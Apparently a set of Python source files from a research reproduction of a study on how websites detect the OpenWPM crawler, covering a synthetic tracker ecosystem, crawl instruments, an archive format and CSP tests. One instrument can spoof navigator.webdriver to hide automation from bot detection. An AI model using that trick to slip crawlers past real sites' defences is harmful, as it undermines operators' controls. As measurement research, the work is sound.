            jar.set_from_response(SetCookie(name, value), url,
                                  "site.test", 0.0)
        assert len(jar) == len({name for name, _ in pairs})

    @given(st.lists(st.tuples(identifiers, identifiers), min_size=1,
                    max_size=8))
    @settings(max_examples=40)
    def test_header_contains_latest_values(self, pairs):
        jar = CookieJar()
        url = URL.parse("https://site.test/")
        latest = {}
        for name, value in pairs:
            jar.set_from_response(SetCookie(name, value), url,
                                  "site.test", 0.0)
            latest[name] = value
        header = jar.header_for(url, 1.0)
        for name, value in latest.items():
            assert f"{name}={value}" in header


class TestSimilarityProperties:
    @given(st.text(max_size=30), st.text(max_size=30))
    def test_ratio_bounded(self, a, b):
        assert 0.0 <= ratcliff_obershelp(a, b) <= 1.0

    @given(st.text(max_size=30))
    def test_self_similarity_is_one(self, s):
        assert ratcliff_obershelp(s, s) == 1.0


class TestDeobfuscation:
    @given(st.text(alphabet=string.ascii_lowercase, min_size=1,
                   max_size=10))
    @settings(max_examples=40)
    def test_hex_encoding_roundtrip(self, word):
        encoded = "".join(f"\\x{ord(ch):02x}" for ch in word)
        assert word in deobfuscate(f'navigator["{encoded}"]')

    @given(st.text(alphabet=string.printable, max_size=60))
    @settings(max_examples=60)
    def test_deobfuscate_total(self, source):
        deobfuscate(source)  # never raises

"""The third-party ecosystem: detector, tracker, and CDN providers.

The provider roster and inclusion shares are calibrated to the paper's
findings: Table 7 (top third-party detector hosts), Table 12
(first-party detection vendors and their URL patterns), Table 6
(OpenWPM-specific detectors), and WhoTracks.me-style purposes.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from typing import Dict, List, Tuple


@dataclass(frozen=True)
class ThirdPartyDetector:
    """A third-party domain serving Selenium/bot-detection scripts."""

    domain: str
    #: Share of all third-party detector inclusions (Table 7).
    inclusion_share: float
    purpose: str
    #: 'plain' scripts are found statically AND dynamically; 'obfuscated'
    #: (dynamic property-name construction) only dynamically; 'lazy'
    #: code is present but not executed during a crawl (static only).
    script_form: str = "plain"


#: Table 7: top 10 hosting domains + aggregated long tail.
THIRD_PARTY_DETECTORS: List[ThirdPartyDetector] = [
    ThirdPartyDetector("yandex.ru", 0.1804, "advertising/analytics"),
    ThirdPartyDetector("adsafeprotected.com", 0.1083, "advertising",
                       script_form="obfuscated"),
    ThirdPartyDetector("moatads.com", 0.1015, "advertising"),
    ThirdPartyDetector("webgains.io", 0.0981, "advertising",
                       script_form="lazy"),
    ThirdPartyDetector("crazyegg.com", 0.0728, "site analytics"),
    ThirdPartyDetector("intercomcdn.com", 0.0498, "customer interaction"),
    ThirdPartyDetector("teads.tv", 0.0400, "advertising",
                       script_form="obfuscated"),
    ThirdPartyDetector("jsdelivr.net", 0.0198, "cdn"),
    ThirdPartyDetector("mxcdn.net", 0.0195, "advertising", "lazy"),
    ThirdPartyDetector("mgid.com", 0.0189, "advertising"),
]

#: The remaining ~29% of inclusions spread over a long tail of domains.
LONG_TAIL_SHARE = 0.291
LONG_TAIL_COUNT = 704


def long_tail_detector_domains(count: int = LONG_TAIL_COUNT) -> List[str]:
    """Distinct registrable domains, so no tail entry aggregates into a
    Table 7 top spot."""
    return [
        "{}det{}.example".format(
            ["adnet", "metric", "guard", "shield"][i % 4],
            hashlib.sha256(f"tail:{i}".encode()).hexdigest()[:6])
        for i in range(count)
    ]


@dataclass(frozen=True)
class FirstPartyVendor:
    """A bot-management vendor deployed under the site's own domain."""

    name: str
    #: Expected number of sites (out of 100K) using this vendor
    #: (Table 12).
    sites_per_100k: int
    #: URL path template; ``{hash}`` is replaced per site.
    path_template: str


FIRST_PARTY_VENDORS: List[FirstPartyVendor] = [
    FirstPartyVendor("Akamai", 1004, "/akam/11/{hash}"),
    FirstPartyVendor("Incapsula", 998, "/_Incapsula_Resource?SWJIYLWA={hash}"),
    FirstPartyVendor("Unknown", 659, "/assets/{hash32}"),
    FirstPartyVendor("Cloudflare", 486, "/cdn-cgi/bm/cv/2172558837/api.js"),
    FirstPartyVendor("PerimeterX", 134, "/{hash8}/init.js"),
    # Remaining first-party detectors are site-specific one-offs.
    FirstPartyVendor("Custom", 586, "/js/bot-check-{hash}.js"),
]

#: Total first-party detector sites per 100K (Sec. 4.3.2: 3,867).
FIRST_PARTY_TOTAL_PER_100K = sum(v.sites_per_100k
                                 for v in FIRST_PARTY_VENDORS)


@dataclass(frozen=True)
class OpenWPMDetectorProvider:
    """A provider probing OpenWPM-specific properties (Table 6)."""

    domain: str
    sites_per_100k: int
    #: Which instrument residue properties its script probes.
    probes: Tuple[str, ...]
    #: Whether static analysis can see it (CHEQ ships plain source; the
    #: others are minified/obfuscated/dynamically loaded).
    statically_visible: bool


OPENWPM_DETECTOR_PROVIDERS: List[OpenWPMDetectorProvider] = [
    OpenWPMDetectorProvider(
        "cheqzone.com", 331, ("jsInstruments",), statically_visible=True),
    OpenWPMDetectorProvider(
        "googlesyndication.com", 14,
        ("jsInstruments", "instrumentFingerprintingApis", "getInstrumentJS"),
        statically_visible=False),
    OpenWPMDetectorProvider(
        "google.com", 9,
        ("jsInstruments", "instrumentFingerprintingApis", "getInstrumentJS"),
        statically_visible=False),
    OpenWPMDetectorProvider(
        "adzouk1tag.com", 2, ("jsInstruments",), statically_visible=False),
]


@dataclass(frozen=True)
class TrackerProvider:
    """An ad/tracking network (matched by the EasyList-style blocklists).

    ``cloaks`` providers withhold tracking cookies and ad traffic from
    clients they have identified as bots (client-side flag or
    server-side re-identification) — the differential behaviour behind
    Tables 8-10.
    """

    domain: str
    kind: str  # 'advertising' | 'analytics' | 'social' | 'cdn'
    cloaks: bool = True
    #: Expected tracking cookies set per visit when not cloaking.
    cookies_per_visit: int = 2
    #: How much ad-frame content a known bot still receives:
    #: 'full' (only the uid is withheld), 'partial' (no impression
    #: pixel), or 'none' (inert auction script).
    bot_ad_fill: str = "full"
    #: Intel sync cycles before the network acts on a listed client.
    activation_delay: int = 1
    #: Sets a second identifying cookie alongside the primary uid.
    extra_uid_cookie: bool = False


TRACKER_PROVIDERS: List[TrackerProvider] = [
    # Only a minority of networks act on bot intelligence — the paper's
    # measured differences are correspondingly subtle (Tables 8-10).
    TrackerProvider("adclick-syndicate.com", "advertising", cloaks=True,
                    bot_ad_fill="full", activation_delay=2,
                    extra_uid_cookie=True),
    TrackerProvider("retarget-exchange.com", "advertising", cloaks=True,
                    bot_ad_fill="partial", activation_delay=1),
    # Runs its own verification: acts on the raw verdict within-run.
    TrackerProvider("video-ads-hub.tv", "advertising", cloaks=True,
                    bot_ad_fill="none", activation_delay=0),
    TrackerProvider("pixelmetrics.net", "analytics", cloaks=False),
    TrackerProvider("bannerwave.io", "advertising", cloaks=False),
    TrackerProvider("audience-graph.net", "analytics", cloaks=False),
    TrackerProvider("social-plugins.example", "social", cloaks=False,
                    cookies_per_visit=1),
    TrackerProvider("statcounter-like.net", "analytics", cloaks=False,
                    cookies_per_visit=1),
]

#: Benign infrastructure domains (never detect, never track).
CDN_DOMAINS: List[str] = [
    "static-cdn.example", "fonts-cdn.example", "jslib-cdn.example",
    "media-cdn.example",
]


def blocklist_domains() -> Dict[str, List[str]]:
    """EasyList / EasyPrivacy equivalents for the synthetic ecosystem.

    EasyList targets advertising; EasyPrivacy targets trackers and
    analytics. Detector hosts run by ad firms appear in EasyList, as
    the paper found for adzouk1tag.com.
    """
    easylist = [p.domain for p in TRACKER_PROVIDERS
                if p.kind == "advertising"]
    easylist += [d.domain for d in THIRD_PARTY_DETECTORS
                 if d.purpose == "advertising"]
    easylist.append("adzouk1tag.com")
    easylist.append("googlesyndication.com")
    easyprivacy = [p.domain for p in TRACKER_PROVIDERS
                   if p.kind in ("analytics", "social")]
    easyprivacy += [d.domain for d in THIRD_PARTY_DETECTORS
                    if "analytics" in d.purpose]
    return {"easylist": sorted(set(easylist)),
            "easyprivacy": sorted(set(easyprivacy))}

#!/usr/bin/env python3
"""Quickstart: crawl a synthetic web with OpenWPM and read the data.

Builds a 50-site deterministic web, runs an OpenWPM-style crawl (HTTP,
cookie, and JavaScript instruments active) through the TaskManager, and
queries the SQLite measurement database — the core loop of every
OpenWPM-based study.

    python examples/quickstart.py
"""

from repro.openwpm import BrowserParams, ManagerParams, TaskManager
from repro.web import build_world


def main() -> None:
    print("Building a deterministic 50-site synthetic web...")
    web = build_world(site_count=50, seed=7)

    manager = TaskManager(
        ManagerParams(database_path=":memory:"),
        [BrowserParams(browser_id=0, dwell_time=10.0)],
        web.network)

    urls = web.front_urls(10)
    print(f"Crawling {len(urls)} front pages...")
    manager.crawl(urls)

    storage = manager.storage
    visits = storage.query("SELECT COUNT(*) AS n FROM site_visits")[0]["n"]
    requests = storage.query(
        "SELECT resource_type, COUNT(*) AS n FROM http_requests "
        "GROUP BY resource_type ORDER BY n DESC")
    js_calls = storage.query(
        "SELECT symbol, COUNT(*) AS n FROM javascript "
        "GROUP BY symbol ORDER BY n DESC LIMIT 8")
    cookies = storage.query(
        "SELECT COUNT(*) AS n FROM javascript_cookies")[0]["n"]

    print(f"\nvisits recorded: {visits}")
    print(f"cookies observed: {cookies}")
    print("\nHTTP requests by resource type:")
    for row in requests:
        print(f"  {row['resource_type']:<16} {row['n']}")
    print("\nmost-accessed JavaScript APIs:")
    for row in js_calls:
        print(f"  {row['symbol']:<28} {row['n']}")

    flagged = web.network.state.get("bot-intel", {})
    print(f"\nbot-intel verdicts for our client: {dict(flagged)}")
    print("(the synthetic web detected the vanilla crawler — "
          "see examples/attack_and_harden.py for the fix)")
    manager.close()


if __name__ == "__main__":
    main()

"""Engine-level (debugger-API-style) instrumentation.

The paper's concluding recommendation (Sec. 8, *Towards robust
instrumentation*): "Ideally, instrumentation is handled outside page
scope. For example, by leveraging the debugger API." This instrument
realises that design on the simulated engine: it registers an access
hook *inside the interpreter*, below the page's object layer, so

* no property descriptor is replaced — ``toString``, descriptors,
  prototypes, and stack traces are byte-identical to an uninstrumented
  browser (nothing for Listing 1 / Fig. 2 style checks to find);
* there is no injected script, no event channel, and no page-reachable
  state — the Listing 2 attacks have no surface at all;
* CSP is irrelevant (nothing enters the page);
* every frame's interpreter is hooked at creation, so the Listing 3
  same-tick iframe gap does not exist.

The trade-off the paper names — maintenance cost / engine coupling — is
visible here too: this class reaches into interpreter internals rather
than WebExtension APIs.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional, Set

from repro.jsobject.objects import JSObject
from repro.openwpm.instruments.js_instrument import JSCallRecord

#: JS interface classes whose accesses are recorded, mapping the
#: class_name of instances/prototypes to the interface label used in
#: record symbols.
DEFAULT_MONITORED_INTERFACES: Dict[str, str] = {
    "Navigator": "Navigator",
    "NavigatorPrototype": "Navigator",
    "Screen": "Screen",
    "ScreenPrototype": "Screen",
    "WebGLRenderingContext": "WebGLRenderingContext",
    "WebGLRenderingContextPrototype": "WebGLRenderingContext",
    "CanvasRenderingContext2D": "CanvasRenderingContext2D",
    "CanvasRenderingContext2DPrototype": "CanvasRenderingContext2D",
    "Performance": "Performance",
    "PerformancePrototype": "Performance",
    "History": "History",
    "HistoryPrototype": "History",
    "Storage": "Storage",
    "OfflineAudioContextPrototype": "OfflineAudioContext",
}


class DebuggerJSInstrument:
    """Zero-footprint JS recording via the engine's access hook."""

    name = "debugger_js_instrument"
    frame_policy = "immediate"

    def __init__(self, storage: Any = None,
                 monitored: Optional[Dict[str, str]] = None,
                 hide_webdriver: bool = False) -> None:
        self.storage = storage
        self.monitored = monitored if monitored is not None \
            else dict(DEFAULT_MONITORED_INTERFACES)
        #: Optionally pair the zero-footprint recording with the
        #: Sec. 6.1.5 webdriver override (one exported getter; the only
        #: page-visible change this instrument can make).
        self.hide_webdriver = hide_webdriver
        self.records: List[JSCallRecord] = []
        self.install_counts: Dict[int, int] = {}
        self.failed_windows: List[Any] = []  # interface parity; stays empty
        self._hooked_windows: Set[int] = set()

    # ------------------------------------------------------------------
    def instrument_window(self, window: Any, context: Any) -> bool:
        if id(window) in self._hooked_windows:
            return True
        self._hooked_windows.add(id(window))

        def hook(kind: str, obj: JSObject, name: str, payload: Any) -> None:
            interface = self.monitored.get(obj.class_name)
            if interface is None:
                return
            if kind == "call":
                arguments = ",".join(
                    self._render(window, a) for a in payload)
                self._record(window, f"{interface}.{name}", "call", "",
                             arguments)
            else:
                self._record(window, f"{interface}.{name}", kind,
                             self._render(window, payload), "")

        window.interp.access_hook = hook
        if self.hide_webdriver and window.navigator_proto is not None:
            from repro.jsobject.descriptors import PropertyDescriptor

            getter = context.export_function(
                lambda interp, this, args: False, "webdriver",
                masquerade_name="webdriver")
            window.navigator_proto.properties["webdriver"] = \
                PropertyDescriptor.accessor(get=getter, enumerable=True)
        # Engine hooks do not modify a single page-visible property
        # (beyond the optional webdriver override above).
        self.install_counts[id(window)] = 0
        return True

    # ------------------------------------------------------------------
    def _render(self, window: Any, value: Any) -> str:
        try:
            return window.interp.to_string(value)[:256]
        except Exception:  # noqa: BLE001 - rendering must never break pages
            return "<unrenderable>"

    def _record(self, window: Any, symbol: str, operation: str,
                value: str, arguments: str) -> None:
        script_url = ""
        for frame in reversed(window.interp.call_stack):
            script_url = frame.script_url
            break
        record = JSCallRecord(
            symbol=symbol, operation=operation, value=value,
            arguments=arguments, call_stack="", script_url=script_url,
            document_url=str(window.url))
        self.records.append(record)
        if self.storage is not None:
            self.storage.record_javascript(
                document_url=record.document_url,
                script_url=record.script_url, symbol=symbol,
                operation=operation, value=value, arguments=arguments,
                call_stack="")

    # ------------------------------------------------------------------
    def symbols_accessed(self) -> List[str]:
        return [record.symbol for record in self.records]

    def clear_records(self) -> None:
        self.records.clear()

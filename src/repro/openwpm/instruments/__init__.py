"""OpenWPM's measurement instruments (HTTP, cookie, JavaScript)."""

from repro.openwpm.instruments.js_instrument import (
    DEFAULT_TARGETS,
    JSInstrument,
    TargetSpec,
)
from repro.openwpm.instruments.http_instrument import HTTPInstrument
from repro.openwpm.instruments.cookie_instrument import CookieInstrument

__all__ = [
    "JSInstrument",
    "TargetSpec",
    "DEFAULT_TARGETS",
    "HTTPInstrument",
    "CookieInstrument",
]

"""The on-disk execution-bundle format.

A bundle is a directory archiving one crawl so it can be replayed and
re-analysed offline (Web Execution Bundles, Hantke et al.):

* ``MANIFEST.json`` — the bundle's identity card. Schema (format 1)::

      {
        "format": 1,                  # bump on incompatible changes
        "kind": "scan" | "crawl",     # which pipeline recorded it
        "status": "recording" | "complete",
        "params": { ... },            # recorder-supplied crawl params
        "sites": ["site", ...],       # planned sites, crawl order
        "pattern_set_version": "...", # static patterns at record time
        "counts": {"sites": N, "visits": N, "exchanges": N}
      }

  ``status`` stays ``"recording"`` until the recorder finalizes the
  bundle; replay refuses anything else, so a crash mid-crawl can never
  masquerade as a faithful archive.

* ``bundle.sqlite`` — the visit index: one row per site (its verdict
  and raw evidence as canonical JSON) and one row per visit (URL plus
  content addresses of its exchange log and JS-call trace).

* ``store.corpus`` — a :class:`repro.corpus.ScriptCorpus` reused as
  the content-addressed body store: every response body, script
  source, inline page script, exchange log, and trace blob lives here
  exactly once, keyed by sha256. Identical resources across visits
  and sites dedup to a single stored (zlib-compressed) body.
"""

from __future__ import annotations

import json
import os
import sqlite3
import threading
from collections import OrderedDict
from dataclasses import dataclass
from typing import Dict, Iterator, List, Optional, Tuple

from repro.bundles.codec import canonical_json
from repro.corpus.store import ScriptCorpus, script_hash

#: Bump when the on-disk layout changes incompatibly.
BUNDLE_FORMAT = 1

MANIFEST_NAME = "MANIFEST.json"
DB_NAME = "bundle.sqlite"
STORE_NAME = "store.corpus"

_SCHEMA = """
CREATE TABLE IF NOT EXISTS sites (
    site TEXT PRIMARY KEY,
    seq INTEGER NOT NULL,
    url TEXT NOT NULL,
    verdict_json TEXT,
    evidence_json TEXT
);
CREATE TABLE IF NOT EXISTS visits (
    site TEXT NOT NULL,
    visit_index INTEGER NOT NULL,
    url TEXT NOT NULL,
    success INTEGER NOT NULL DEFAULT 1,
    exchanges_ref TEXT NOT NULL,
    trace_ref TEXT NOT NULL,
    PRIMARY KEY (site, visit_index)
);
"""


class BundleError(RuntimeError):
    """The directory is not a usable execution bundle."""


class IncompleteBundleError(BundleError):
    """The bundle is a crash-interrupted (never finalized) recording."""


def is_bundle_dir(path: str) -> bool:
    return os.path.isfile(os.path.join(path, MANIFEST_NAME))


def _write_manifest(path: str, manifest: Dict[str, object]) -> None:
    """Atomic manifest write: a torn write must not look finalized."""
    target = os.path.join(path, MANIFEST_NAME)
    tmp = target + ".tmp"
    with open(tmp, "w", encoding="utf-8") as handle:
        handle.write(json.dumps(manifest, indent=2, sort_keys=True)
                     + "\n")
    os.replace(tmp, target)


@dataclass
class BundleVisit:
    """One archived visit, decoded."""

    site: str
    visit_index: int
    url: str
    success: bool
    #: Fetch-ordered exchange chains; each is ``{"hops": [...]}`` in
    #: the codec's encoding (decode lazily — replay needs dicts).
    exchanges: List[Dict[str, object]]
    #: Encoded JS-call trace (positional lists, codec.TRACE_FIELDS).
    trace: List[List[str]]


class BundleWriter:
    """Creates a bundle directory and streams site records into it.

    One ``write_site`` call commits everything that site produced —
    visit rows, blobs, verdict — in a single transaction, so a crash
    leaves whole sites, never torn visits, and the manifest's
    ``recording`` status marks the bundle unfinished until
    :meth:`finalize`.
    """

    def __init__(self, path: str, kind: str = "crawl",
                 params: Optional[Dict[str, object]] = None,
                 sites: Optional[List[str]] = None) -> None:
        if is_bundle_dir(path):
            raise BundleError(
                f"refusing to record into {path!r}: it already holds a "
                "bundle (delete it or pick a fresh directory)")
        os.makedirs(path, exist_ok=True)
        self.path = path
        try:
            from repro.core.scan.static_analysis import PATTERN_SET_VERSION
            pattern_version: Optional[str] = PATTERN_SET_VERSION
        except Exception:  # pragma: no cover - defensive
            pattern_version = None
        self.manifest: Dict[str, object] = {
            "format": BUNDLE_FORMAT,
            "kind": kind,
            "status": "recording",
            "params": dict(params or {}),
            "sites": list(sites or []),
            "pattern_set_version": pattern_version,
            "counts": {},
        }
        _write_manifest(path, self.manifest)
        self._lock = threading.Lock()
        self._conn = sqlite3.connect(os.path.join(path, DB_NAME),
                                     check_same_thread=False)
        self._conn.executescript(_SCHEMA)
        self._conn.commit()
        self.store = ScriptCorpus(os.path.join(path, STORE_NAME))
        self._seq = {site: index for index, site
                     in enumerate(self.manifest["sites"])}
        self._exchanges = 0
        self._closed = False

    # ------------------------------------------------------------------
    def write_site(self, site: str,
                   visits: List[Dict[str, object]],
                   verdict: Optional[Dict[str, object]] = None,
                   evidence: Optional[List[Dict[str, object]]] = None
                   ) -> None:
        """Commit one site's visits atomically.

        Each visit dict carries ``url``, ``success``, ``exchanges``
        (encoded chains), ``trace`` (encoded records) and ``blobs``
        (digest -> text of every body the codec externalized).
        """
        bodies: Dict[str, str] = {}
        rows: List[Tuple[str, int, str, int, str, str]] = []
        exchange_count = 0
        for index, visit in enumerate(visits):
            bodies.update(visit.get("blobs") or {})
            exchanges_text = canonical_json(visit.get("exchanges") or [])
            exchanges_ref = script_hash(exchanges_text)
            bodies[exchanges_ref] = exchanges_text
            trace_text = canonical_json(visit.get("trace") or [])
            trace_ref = script_hash(trace_text)
            bodies[trace_ref] = trace_text
            exchange_count += len(visit.get("exchanges") or [])
            rows.append((site, index, str(visit.get("url", site)),
                         int(bool(visit.get("success", True))),
                         exchanges_ref, trace_ref))
        front_url = rows[0][2] if rows else site
        with self._lock:
            self.store.put_many(bodies)
            seq = self._seq.get(site)
            if seq is None:
                seq = len(self._seq)
                self._seq[site] = seq
                self.manifest["sites"].append(site)
            self._conn.execute("DELETE FROM visits WHERE site = ?",
                               (site,))
            self._conn.executemany(
                "INSERT OR REPLACE INTO visits "
                "(site, visit_index, url, success, exchanges_ref, "
                "trace_ref) VALUES (?, ?, ?, ?, ?, ?)", rows)
            self._conn.execute(
                "INSERT OR REPLACE INTO sites "
                "(site, seq, url, verdict_json, evidence_json) "
                "VALUES (?, ?, ?, ?, ?)",
                (site, seq, front_url,
                 None if verdict is None else canonical_json(verdict),
                 None if evidence is None
                 else canonical_json(evidence)))
            self._conn.commit()
            self._exchanges += exchange_count

    # ------------------------------------------------------------------
    def import_analysis_cache(self, rows) -> int:
        """Archive memoized static-analysis verdicts with the bodies.

        Replay seeds its sidecar corpus from these rows, so unchanged
        pattern sets skip deobfuscation + matching entirely (the cache
        key includes the pattern-set version: a *new* pattern set
        simply misses and re-analyses).
        """
        return self.store.import_analysis_cache(rows)

    def finalize(self, complete: bool = True) -> None:
        """Write final counts; mark the bundle complete (or not)."""
        if self._closed:
            return
        with self._lock:
            counts = {
                "sites": int(self._conn.execute(
                    "SELECT COUNT(*) FROM sites").fetchone()[0]),
                "visits": int(self._conn.execute(
                    "SELECT COUNT(*) FROM visits").fetchone()[0]),
                "exchanges": self._exchanges,
            }
            self.manifest["counts"] = counts
            if complete:
                self.manifest["status"] = "complete"
            _write_manifest(self.path, self.manifest)
            self._conn.commit()
            self._conn.close()
            self.store.close()
            self._closed = True


class Bundle:
    """Read access to a finalized bundle (replay + fidelity side)."""

    #: Decompressed-blob memo size (exchange logs decode per visit;
    #: shared resources decode once).
    BLOB_CACHE = 512

    def __init__(self, path: str, allow_incomplete: bool = False) -> None:
        manifest_path = os.path.join(path, MANIFEST_NAME)
        if not os.path.isfile(manifest_path):
            raise BundleError(
                f"{path!r} is not an execution bundle: no "
                f"{MANIFEST_NAME} (record one with --record <dir>)")
        with open(manifest_path, encoding="utf-8") as handle:
            self.manifest: Dict[str, object] = json.load(handle)
        fmt = self.manifest.get("format")
        if fmt != BUNDLE_FORMAT:
            raise BundleError(
                f"bundle {path!r} has format {fmt!r}, this build reads "
                f"format {BUNDLE_FORMAT}; re-record it")
        self.path = path
        self._lock = threading.Lock()
        self._conn = sqlite3.connect(os.path.join(path, DB_NAME),
                                     check_same_thread=False)
        self._conn.row_factory = sqlite3.Row
        self.store = ScriptCorpus(os.path.join(path, STORE_NAME))
        self._blobs: "OrderedDict[str, str]" = OrderedDict()
        if not allow_incomplete:
            self._check_complete()

    @classmethod
    def open(cls, path: str, allow_incomplete: bool = False) -> "Bundle":
        return cls(path, allow_incomplete=allow_incomplete)

    # ------------------------------------------------------------------
    def _check_complete(self) -> None:
        expected = list(self.manifest.get("sites", []))
        with self._lock:
            recorded = {row["site"] for row in self._conn.execute(
                "SELECT site FROM sites")}
        missing = [site for site in expected if site not in recorded]
        if self.manifest.get("status") != "complete":
            preview = ", ".join(repr(site) for site in missing[:3])
            more = f" (+{len(missing) - 3} more)" if len(missing) > 3 \
                else ""
            detail = (f"the visit(s) for {preview}{more} were never "
                      "archived") if missing else \
                "every site was archived but the manifest was never " \
                "finalized"
            raise IncompleteBundleError(
                f"bundle {self.path!r} is an incomplete recording "
                f"(status {self.manifest.get('status')!r}, "
                f"{len(recorded)}/{len(expected)} sites): {detail}. "
                "The recording crawl crashed or is still running — "
                "re-record the bundle before replaying it")
        if missing:
            raise IncompleteBundleError(
                f"bundle {self.path!r} is marked complete but is "
                f"missing the recorded visits for "
                f"{missing[:3]!r}; the bundle directory was truncated "
                "or mixed from two recordings — re-record it")

    # ------------------------------------------------------------------
    @property
    def kind(self) -> str:
        return str(self.manifest.get("kind", "crawl"))

    @property
    def status(self) -> str:
        return str(self.manifest.get("status", "recording"))

    @property
    def params(self) -> Dict[str, object]:
        return dict(self.manifest.get("params") or {})

    def sites(self) -> List[str]:
        """Planned sites in recording (crawl) order."""
        return list(self.manifest.get("sites", []))

    # ------------------------------------------------------------------
    def blob(self, digest: str) -> str:
        with self._lock:
            cached = self._blobs.get(digest)
            if cached is not None:
                self._blobs.move_to_end(digest)
                return cached
        text = self.store.source(digest)
        with self._lock:
            self._blobs[digest] = text
            if len(self._blobs) > self.BLOB_CACHE:
                self._blobs.popitem(last=False)
        return text

    def _visit_from_row(self, row) -> BundleVisit:
        return BundleVisit(
            site=row["site"], visit_index=int(row["visit_index"]),
            url=row["url"], success=bool(row["success"]),
            exchanges=json.loads(self.blob(row["exchanges_ref"])),
            trace=json.loads(self.blob(row["trace_ref"])))

    def visit(self, site: str, visit_index: int) -> BundleVisit:
        with self._lock:
            row = self._conn.execute(
                "SELECT * FROM visits WHERE site = ? AND visit_index = ?",
                (site, visit_index)).fetchone()
        if row is None:
            raise BundleError(
                f"bundle {self.path!r} has no visit {visit_index} for "
                f"site {site!r} (the replayed crawl is visiting more "
                "pages than the recording archived)")
        return self._visit_from_row(row)

    def visits(self, site: str) -> List[BundleVisit]:
        with self._lock:
            rows = self._conn.execute(
                "SELECT * FROM visits WHERE site = ? ORDER BY "
                "visit_index", (site,)).fetchall()
        return [self._visit_from_row(row) for row in rows]

    def visit_count(self, site: Optional[str] = None) -> int:
        sql = "SELECT COUNT(*) AS n FROM visits"
        args: Tuple = ()
        if site is not None:
            sql += " WHERE site = ?"
            args = (site,)
        with self._lock:
            return int(self._conn.execute(sql, args).fetchone()["n"])

    def recorded_sites(self) -> List[str]:
        with self._lock:
            rows = self._conn.execute(
                "SELECT site FROM sites ORDER BY seq").fetchall()
        return [row["site"] for row in rows]

    def verdict(self, site: str) -> Optional[Dict[str, object]]:
        with self._lock:
            row = self._conn.execute(
                "SELECT verdict_json FROM sites WHERE site = ?",
                (site,)).fetchone()
        if row is None or row["verdict_json"] is None:
            return None
        return json.loads(row["verdict_json"])

    def evidence(self, site: str) -> Optional[List[Dict[str, object]]]:
        with self._lock:
            row = self._conn.execute(
                "SELECT evidence_json FROM sites WHERE site = ?",
                (site,)).fetchone()
        if row is None or row["evidence_json"] is None:
            return None
        return json.loads(row["evidence_json"])

    # ------------------------------------------------------------------
    def refs(self) -> Iterator[Tuple[str, str]]:
        """Every content address the index references, as
        ``(context, digest)`` pairs — the integrity-check walk."""
        with self._lock:
            rows = self._conn.execute(
                "SELECT site, visit_index, exchanges_ref, trace_ref "
                "FROM visits ORDER BY site, visit_index").fetchall()
        for row in rows:
            context = f"{row['site']}#{row['visit_index']}"
            yield f"{context}:exchanges", row["exchanges_ref"]
            yield f"{context}:trace", row["trace_ref"]
            try:
                exchanges = json.loads(self.blob(row["exchanges_ref"]))
            except Exception:
                continue  # already reported as a broken top-level ref
            for chain in exchanges:
                for hop in chain.get("hops", []):
                    response = hop.get("response") or {}
                    url = str((hop.get("request") or {}).get("url", ""))
                    if response.get("body_ref"):
                        yield f"{context}:{url}:body", \
                            response["body_ref"]
                    script = response.get("script") or {}
                    if script.get("source_ref"):
                        yield f"{context}:{url}:script", \
                            script["source_ref"]
                    page = response.get("page") or {}
                    for item in page.get("items", []):
                        if item.get("source_ref"):
                            yield f"{context}:{url}:inline", \
                                item["source_ref"]

    # ------------------------------------------------------------------
    def stats(self) -> Dict[str, object]:
        """Coverage + storage numbers for ``repro stats``."""
        with self._lock:
            sites_recorded = int(self._conn.execute(
                "SELECT COUNT(*) AS n FROM sites").fetchone()["n"])
            visits = int(self._conn.execute(
                "SELECT COUNT(*) AS n FROM visits").fetchone()["n"])
        store = self.store.stats()
        counts = dict(self.manifest.get("counts") or {})
        expected = len(self.manifest.get("sites", []))
        return {
            "path": self.path,
            "kind": self.kind,
            "status": self.status,
            "format": self.manifest.get("format"),
            "pattern_set_version":
                self.manifest.get("pattern_set_version"),
            "sites_expected": expected,
            "sites_recorded": sites_recorded,
            "coverage": sites_recorded / expected if expected else 0.0,
            "visits": visits,
            "exchanges": counts.get("exchanges", 0),
            "stored_blobs": store["stored_bodies"],
            "stored_bytes": self.store.total_stored_bytes(),
            "raw_bytes": self.store.total_raw_bytes(),
        }

    def close(self) -> None:
        with self._lock:
            self._conn.close()
        self.store.close()

"""Unit tests for the Content Security Policy engine."""

from repro.dom.csp import ContentSecurityPolicy
from repro.net.url import URL

PAGE = URL.parse("https://site.test/")


class TestParsing:
    def test_no_policy_allows_everything(self):
        policy = ContentSecurityPolicy.none()
        assert policy.allows_inline_script()
        assert policy.allows_eval()
        assert policy.allows_script_url(
            URL.parse("https://anywhere.test/x.js"), PAGE)

    def test_parse_script_src_and_report_uri(self):
        policy = ContentSecurityPolicy.parse(
            "script-src 'self' cdn.test; report-uri /csp")
        assert policy.script_src == ["'self'", "cdn.test"]
        assert policy.report_uri == "/csp"

    def test_unknown_directives_ignored(self):
        policy = ContentSecurityPolicy.parse(
            "default-src 'none'; img-src *")
        assert policy.script_src is None


class TestScriptSrc:
    def test_self_allows_same_host_only(self):
        policy = ContentSecurityPolicy.parse("script-src 'self'")
        assert policy.allows_script_url(
            URL.parse("https://site.test/app.js"), PAGE)
        assert not policy.allows_script_url(
            URL.parse("https://evil.test/app.js"), PAGE)

    def test_host_allowlist(self):
        policy = ContentSecurityPolicy.parse("script-src 'self' cdn.test")
        assert policy.allows_script_url(
            URL.parse("https://cdn.test/lib.js"), PAGE)

    def test_wildcard_subdomain(self):
        policy = ContentSecurityPolicy.parse("script-src *.cdn.test")
        assert policy.allows_script_url(
            URL.parse("https://a.cdn.test/x.js"), PAGE)
        assert not policy.allows_script_url(
            URL.parse("https://cdn.other/x.js"), PAGE)

    def test_star_allows_all(self):
        policy = ContentSecurityPolicy.parse("script-src *")
        assert policy.allows_script_url(
            URL.parse("https://any.test/x.js"), PAGE)


class TestInlineAndEval:
    def test_script_src_without_unsafe_inline_blocks_inline(self):
        policy = ContentSecurityPolicy.parse("script-src 'self'")
        assert not policy.allows_inline_script()

    def test_unsafe_inline_allows_inline(self):
        policy = ContentSecurityPolicy.parse(
            "script-src 'self' 'unsafe-inline'")
        assert policy.allows_inline_script()

    def test_eval_blocked_without_unsafe_eval(self):
        policy = ContentSecurityPolicy.parse("script-src 'self'")
        assert not policy.allows_eval()

    def test_unsafe_eval(self):
        policy = ContentSecurityPolicy.parse(
            "script-src 'self' 'unsafe-eval'")
        assert policy.allows_eval()

    def test_restricts_scripts_flag(self):
        assert ContentSecurityPolicy.parse("script-src 'self'") \
